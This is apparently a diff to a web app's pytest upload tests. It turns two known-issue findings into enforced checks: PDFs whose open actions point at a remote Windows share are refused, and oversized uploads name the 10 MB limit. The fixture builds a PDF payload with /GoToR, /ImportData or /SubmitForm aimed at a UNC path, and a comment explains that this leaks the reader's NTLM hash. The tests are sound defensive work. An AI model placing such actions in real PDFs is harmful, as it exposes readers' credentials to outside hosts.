@@ -718,18 +718,16 @@ def test_an_image_holding_a_web_page_is_only_ever_sent_as_an_image(app, owner_cl
         assert answer.headers["Content-Disposition"].startswith(f"{disposition}; ")
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="Finding for the lead: a /GoToR action opens a file on another computer (a "
-    "\\\\host\\share path makes Windows send the reader's NTLM hash); it is kept today.",
-)
-def test_a_pdf_that_opens_a_file_on_another_computer_is_refused(app, draft):
-    remote = one_page(b"/OpenAction << /S /GoToR /F (\\\\\\\\198.51.100.7\\\\share\\\\x.pdf) "
-                      b"/D [0 /Fit] >>")  # fmt: skip
+# A /GoToR to a \\\\host\\share path makes a Windows reader send its NTLM hash to that host.
+@pytest.mark.parametrize("action", [b"/GoToR", b"/ImportData", b"/SubmitForm"])
+def test_a_pdf_that_opens_a_file_on_another_computer_is_refused(app, draft, action):
+    share = b"(\\\\\\\\198.51.100.7\\\\share\\\\x.pdf)"
+    remote = one_page(b"/OpenAction << /S " + action + b" /F " + share + b" /D [0 /Fit] >>")
 
     answer = upload_api(app, draft, remote)
 
     assert answer.status_code == 422
+    assert counts(app)["Document"] == 0
 
 
 # Hostile multipart bodies -------------------------------------------------------------------
@@ -1499,17 +1497,13 @@ def test_a_body_over_the_servers_limit_is_a_413_page_and_stores_nothing(
     assert counts(app)["Document"] == 0
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="Finding for the lead: past MAX_CONTENT_LENGTH the bill step and the fax form answer "
-    "the generic 413 page ('Split it into smaller files and upload them one by one'), which "
-    "neither names the 10 MB limit for a document nor says how to make the file smaller.",
-)
 @pytest.mark.parametrize("path", ["/port-requests/{r}/bill", "/fax-ports/new"])
 def test_a_body_over_the_servers_limit_is_told_the_documents_limit(app, owner_client, draft, path):
     answer = over_the_body_limit(app, owner_client, path.format(r=draft))
 
-    assert "10 MB" in text_of(answer)
+    assert answer.status_code == 413
+    assert "A document can be at most 10 MB." in text_of(answer)
+    assert counts(app)["Document"] == 0
 
 
 @pytest.mark.parametrize(
